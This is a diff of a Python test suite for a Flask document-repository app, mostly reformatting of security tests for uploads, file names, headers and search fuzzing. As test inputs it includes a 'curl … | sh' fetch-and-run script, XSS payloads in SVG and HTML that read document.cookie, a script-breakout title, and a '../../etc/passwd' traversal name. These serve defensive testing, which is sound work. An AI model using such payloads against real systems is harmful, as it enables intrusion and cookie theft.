@@ -84,7 +84,8 @@ def a_text(words: str = "Social and solidarity economy.") -> bytes:
 
 
 def test_an_oversized_body_is_413_on_every_kind_of_route(
-    staff_app: Flask, staff: FlaskClient  # noqa: F811
+    staff_app: Flask,
+    staff: FlaskClient,  # noqa: F811
 ) -> None:
     document_id = make_record(staff_app)
     staff_app.config["MAX_CONTENT_LENGTH"] = 4096
@@ -98,9 +99,7 @@ def test_an_oversized_body_is_413_on_every_kind_of_route(
     assert response.status_code == 413
     assert "The upload is too large" in response.get_data(as_text=True)
     # A plain form elsewhere gets the error page, not a server error.
-    response = staff.post(
-        f"/staff/{document_id}/edit", data={"title": "x" * 10_000}
-    )
+    response = staff.post(f"/staff/{document_id}/edit", data={"title": "x" * 10_000})
     assert response.status_code == 413
     html = response.get_data(as_text=True)
     assert "<html" in html and "Something went wrong" not in html
@@ -112,7 +111,8 @@ def test_an_oversized_body_is_413_on_every_kind_of_route(
 
 
 def test_too_many_form_parts_are_refused(
-    staff_app: Flask, staff: FlaskClient  # noqa: F811
+    staff_app: Flask,
+    staff: FlaskClient,  # noqa: F811
 ) -> None:
     document_id = make_record(staff_app)
     staff_app.config["MAX_FORM_PARTS"] = 50
@@ -185,22 +185,40 @@ def _jpeg_and_tiff() -> list[tuple[bytes, str, str, str]]:
 ELF = Path("/bin/true")
 DOCX_LABEL = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
 REFUSED = [
-    (ELF.read_bytes() if ELF.is_file() else b"\x7fELF\x02\x01\x01" + bytes(64),
-     "report.pdf", "application/pdf", "ELF executable"),
-    (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(500) + b"PE\x00\x00", "brief.docx",
-     DOCX_LABEL, "Windows program"),
+    (
+        ELF.read_bytes() if ELF.is_file() else b"\x7fELF\x02\x01\x01" + bytes(64),
+        "report.pdf",
+        "application/pdf",
+        "ELF executable",
+    ),
+    (
+        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(500) + b"PE\x00\x00",
+        "brief.docx",
+        DOCX_LABEL,
+        "Windows program",
+    ),
     (b"#!/bin/sh\ncurl http://example.org/x | sh\n", "notes.txt", "text/plain", "script"),
     (_zip(), "paper.docx", DOCX_LABEL, "ZIP archive"),
-    (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
-     b"<script>alert(document.cookie)</script></svg>", "chart.png", "image/png", "SVG image"),
-    (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00"
-     b"\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
-     "photo.jpg", "image/jpeg", "GIF image"),
+    (
+        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
+        b"<script>alert(document.cookie)</script></svg>",
+        "chart.png",
+        "image/png",
+        "SVG image",
+    ),
+    (
+        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00"
+        b"\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;",
+        "photo.jpg",
+        "image/jpeg",
+        "GIF image",
+    ),
 ]
 
 
 def test_accepted_types_are_stored_with_the_sniffed_type_whatever_the_name_or_label(
-    staff_app: Flask, staff: FlaskClient  # noqa: F811
+    staff_app: Flask,
+    staff: FlaskClient,  # noqa: F811
 ) -> None:
     document_id = make_record(staff_app)
     cases = [
@@ -216,7 +234,7 @@ def test_accepted_types_are_stored_with_the_sniffed_type_whatever_the_name_or_la
     html = response.get_data(as_text=True)
     assert "was refused" not in html
     by_name = {f.original_name: f for f in stored_files(staff_app)}
-    for __, name, label, expected in cases:
+    for __, name, __, expected in cases:
         assert by_name[name].media_type == expected, name
         # The download says what the bytes are, not what the uploader claimed.
         answer = download(staff, document_id, by_name[name].id)
@@ -258,7 +276,9 @@ HOSTILE_NAMES = {
 
 
 def test_hostile_names_are_stored_under_the_hash_and_recorded_clean(
-    staff_app: Flask, staff: FlaskClient, tmp_path: Path  # noqa: F811
+    staff_app: Flask,
+    staff: FlaskClient,
+    tmp_path: Path,  # noqa: F811
 ) -> None:
     document_id = make_record(staff_app)
     long_name = "a" * 1_000 + ".txt"
@@ -291,7 +311,8 @@ def test_hostile_names_are_stored_under_the_hash_and_recorded_clean(
 
 
 def test_hostile_names_through_the_upload_form(
-    staff_app: Flask, staff: FlaskClient  # noqa: F811
+    staff_app: Flask,
+    staff: FlaskClient,  # noqa: F811
 ) -> None:
     document_id = make_record(staff_app)
     names = ["../../etc/passwd", "evil\u202egnp.js.txt", "x" * 1_000 + ".txt", "tab\there.txt"]
@@ -362,7 +383,9 @@ def _bombs(tmp_path: Path) -> list[tuple[bytes, str]]:
 
 
 def test_zip_and_xml_bombs_are_stored_with_the_extraction_error(
-    staff_app: Flask, staff: FlaskClient, tmp_path: Path  # noqa: F811
+    staff_app: Flask,
+    staff: FlaskClient,
+    tmp_path: Path,  # noqa: F811
 ) -> None:
     document_id = make_record(staff_app)
     response = post_files(staff, document_id, *_bombs(tmp_path))
@@ -382,7 +405,8 @@ def test_zip_and_xml_bombs_are_stored_with_the_extraction_error(
 
 
 def test_uploaded_html_and_svg_are_served_only_as_attachments(
-    staff_app: Flask, staff: FlaskClient  # noqa: F811
+    staff_app: Flask,
+    staff: FlaskClient,  # noqa: F811
 ) -> None:
     document_id = make_record(staff_app)
     page = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
@@ -396,8 +420,13 @@ def test_uploaded_html_and_svg_are_served_only_as_attachments(
         variant = db.session.scalar(select(Variant).where(Variant.document_id == document_id))
         blob = documents.blob_store().put_file(_write(staff_app, svg), max_size=None)
         db.session.add(
-            StoredFile(variant=variant, sha256=blob.sha256, size=blob.size,
-                       media_type="image/svg+xml", original_name="chart.svg")
+            StoredFile(
+                variant=variant,
+                sha256=blob.sha256,
+                size=blob.size,
+                media_type="image/svg+xml",
+                original_name="chart.svg",
+            )
         )
         db.session.commit()
     files = {f.original_name: f for f in stored_files(staff_app)}
@@ -419,36 +448,113 @@ def _write(app: Flask, data: bytes) -> Path:
 
 # --- fuzzed search parameters --------------------------------------------------------
 
-PARAMETERS = ["q", "page", "per_page", "sort", "kind", "type", "year", "language",
-              "organization", "topic", "region", "lang"]
+PARAMETERS = [
+    "q",
+    "page",
+    "per_page",
+    "sort",
+    "kind",
+    "type",
+    "year",
+    "language",
+    "organization",
+    "topic",
+    "region",
+    "lang",
+]
 
-any_text = st.text(
-    alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40
-)
+any_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=40)
 # Values that parsers trip on: numbers at the edges, query syntax, odd Unicode.
-tricky = st.sampled_from([
-    "", "0", "-1", "1e9", "99999999999999999999", "NaN", "1.5", " 2", "٣", "²", "*", "?",
-    "AND", "OR NOT", '"', '"unclosed', "(", ")", "[", "[a TO", "{", "a:b", "title:", "*:*",
-    "~", "^2", "\\", "%", "%00", "\x00", "\u202e", "\ufeff", "\U0001f600", "ﷺ", "ａｂｃ",
-    "relevance", "newest", "oldest", "en", "ar", "zh", "xx", "publication", "archive",
-    "2024", "1800", "ILO", "sdg-8", "002", "a" * 2000,
-])
+tricky = st.sampled_from(
+    [
+        "",
+        "0",
+        "-1",
+        "1e9",
+        "99999999999999999999",
+        "NaN",
+        "1.5",
+        " 2",
+        "٣",
+        "²",
+        "*",
+        "?",
+        "AND",
+        "OR NOT",
+        '"',
+        '"unclosed',
+        "(",
+        ")",
+        "[",
+        "[a TO",
+        "{",
+        "a:b",
+        "title:",
+        "*:*",
+        "~",
+        "^2",
+        "\\",
+        "%",
+        "%00",
+        "\x00",
+        "\u202e",
+        "\ufeff",
+        "\U0001f600",
+        "ﷺ",
+        "ａｂｃ",
+        "relevance",
+        "newest",
+        "oldest",
+        "en",
+        "ar",
+        "zh",
+        "xx",
+        "publication",
+        "archive",
+        "2024",
+        "1800",
+        "ILO",
+        "sdg-8",
+        "002",
+        "a" * 2000,
+    ]
+)
 value = st.one_of(tricky, any_text)
 query = st.lists(st.tuples(st.sampled_from(PARAMETERS), value), max_size=8)
 
 
 @pytest.fixture
 def catalogue(app: Flask, import_rows) -> Flask:
-    report = import_rows([
-        dict(ref="PB-2024-01", language="en", title="Cooperatives and decent work",
-             type="policy-brief", date="2024-03", organizations="ILO", topics="cooperatives",
-             regions="002", content="Cooperatives create decent work."),
-        dict(ref="PB-2024-01", language="fr", title="Coopératives et travail décent",
-             content="Les coopératives créent du travail décent."),
-        dict(ref="WP-2021-02", language="ar", title="الاقتصاد الاجتماعي والتضامني",
-             type="working-paper", date="2021", organizations="UNRISD",
-             content="الاقتصاد الاجتماعي والتضامني في الممارسة."),
-    ])
+    report = import_rows(
+        [
+            dict(
+                ref="PB-2024-01",
+                language="en",
+                title="Cooperatives and decent work",
+                type="policy-brief",
+                date="2024-03",
+                organizations="ILO",
+                topics="cooperatives",
+                regions="002",
+                content="Cooperatives create decent work.",
+            ),
+            dict(
+                ref="PB-2024-01",
+                language="fr",
+                title="Coopératives et travail décent",
+                content="Les coopératives créent du travail décent.",
+            ),
+            dict(
+                ref="WP-2021-02",
+                language="ar",
+                title="الاقتصاد الاجتماعي والتضامني",
+                type="working-paper",
+                date="2021",
+                organizations="UNRISD",
+                content="الاقتصاد الاجتماعي والتضامني في الممارسة.",
+            ),
+        ]
+    )
     assert report.failed == 0, [str(r) for r in report.rows]
     return app
 
@@ -508,7 +614,8 @@ def assert_security_headers(response) -> None:
 
 
 def test_security_headers_on_a_page_an_api_answer_an_error_and_a_download(
-    staff_app: Flask, staff: FlaskClient  # noqa: F811
+    staff_app: Flask,
+    staff: FlaskClient,  # noqa: F811
 ) -> None:
     document_id = make_record(staff_app)
     post_files(staff, document_id, (a_text(), "note.txt"))
@@ -544,11 +651,19 @@ def test_no_template_carries_inline_script_style_or_handlers() -> None:
 
 
 def test_the_landing_page_json_ld_cannot_end_its_script(app: Flask, import_rows) -> None:
-    report = import_rows([
-        dict(ref="PB-2024-09", language="en", title="</script><script>alert(1)</script>",
-             type="policy-brief", date="2024", organizations="ILO",
-             content="Harmless text."),
-    ])
+    report = import_rows(
+        [
+            dict(
+                ref="PB-2024-09",
+                language="en",
+                title="</script><script>alert(1)</script>",
+                type="policy-brief",
+                date="2024",
+                organizations="ILO",
+                content="Harmless text.",
+            ),
+        ]
+    )
     assert report.failed == 0, [str(r) for r in report.rows]
     with app.app_context():
         document_id = db.session.scalar(select(func.min(Document.id)))
@@ -562,7 +677,10 @@ def test_the_landing_page_json_ld_cannot_end_its_script(app: Flask, import_rows)
 def test_text_with_nul_characters_is_refused_not_stored(app, client) -> None:
     """PostgreSQL cannot store NUL in text; every surface refuses it with a 400."""
     assert client.get("/search", query_string={"q": "co\x00op"}).status_code == 400
-    assert client.post("/auth/login", data={"email": "a\x00@b.org", "password": "x"}).status_code == 400
+    assert (
+        client.post("/auth/login", data={"email": "a\x00@b.org", "password": "x"}).status_code
+        == 400
+    )
     response = client.post("/api/documents", json={"ref": "X\x00", "title": "t"})
     assert response.status_code == 400
     assert response.get_json()["error"] == "bad_request"
